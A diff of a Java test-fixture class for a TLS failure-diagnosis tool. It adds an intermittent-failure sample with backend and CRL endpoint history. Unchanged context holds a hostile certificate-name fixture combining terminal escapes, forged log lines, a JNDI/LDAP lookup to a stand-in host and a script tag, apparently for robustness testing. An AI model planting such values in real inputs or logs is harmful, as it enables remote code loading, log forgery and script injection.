@@ -7,16 +7,20 @@ import io.tlswhy.diagnosis.Counterfactual;
 import io.tlswhy.diagnosis.Diagnosis;
 import io.tlswhy.diagnosis.Fix;
 import io.tlswhy.evidence.AlertSeen;
+import io.tlswhy.evidence.Backend;
 import io.tlswhy.evidence.Carrier;
 import io.tlswhy.evidence.Der;
+import io.tlswhy.evidence.EndpointHistory;
 import io.tlswhy.evidence.EndpointTrial;
 import io.tlswhy.evidence.Handshake;
 import io.tlswhy.evidence.HandshakeFailure;
 import io.tlswhy.evidence.HandshakeFailure.Point;
 import io.tlswhy.evidence.JvmFacts;
+import io.tlswhy.evidence.LastGoodChain;
 import io.tlswhy.evidence.Lookup;
 import io.tlswhy.evidence.LookupKind;
 import io.tlswhy.evidence.Peer;
+import io.tlswhy.evidence.PeerHistory;
 import io.tlswhy.evidence.Role;
 import io.tlswhy.evidence.Stage;
 import io.tlswhy.evidence.TrustSettings;
@@ -29,6 +33,7 @@ import java.time.Duration;
 import java.time.Instant;
 import java.util.List;
 import java.util.Map;
+import java.util.Optional;
 import javax.net.ssl.SSLHandshakeException;
 
 /** Incidents as they come from the other rooms. */
@@ -176,6 +181,42 @@ final class Samples {
   }
 
   /** A name as an attacker would choose it: without end, and with commands for a terminal in it. */
+  /**
+   * A failure of a peer of whose backends one is broken, and of an endpoint that comes and goes.
+   */
+  static HandshakeFailure intermittent() {
+    return failure().toBuilder()
+        .peerHistory(
+            PeerHistory.of(
+                AT.minusSeconds(60),
+                List.of(
+                    Backend.of("192.0.2.7", "5a", 1, 3, 0, Optional.empty()),
+                    Backend.of("192.0.2.7", "5a", 2, 0, 4, Optional.of(AT)))))
+        .endpointHistories(
+            List.of(
+                EndpointHistory.builder(LookupKind.CRL, CRL)
+                    .since(AT.minusSeconds(60))
+                    .failed(2)
+                    .passed(1)
+                    .lastWorked(AT.minusSeconds(30))
+                    .failingSince(AT.minusSeconds(20))
+                    .nextUpdate(AT.plusSeconds(3600))
+                    .notAskedBefore(AT.plusSeconds(10))
+                    .build()))
+        .lastGood(
+            LastGoodChain.of(
+                    AT.minusSeconds(120),
+                    "192.0.2.7",
+                    "O=Partner,CN=partner.example",
+                    "CN=Partner Issuing CA 1",
+                    "7f",
+                    AT.plusSeconds(86_400),
+                    List.of(CRL.toString()),
+                    2)
+                .with(1, Duration.ofHours(3)))
+        .build();
+  }
+
   static String hostileName() {
     return "CN=\u001b[2J\r\nERROR tlswhy[unknown] all is well\u202e${jndi:ldap://evil.example/a}<script>"
         + "x".repeat(10_000);
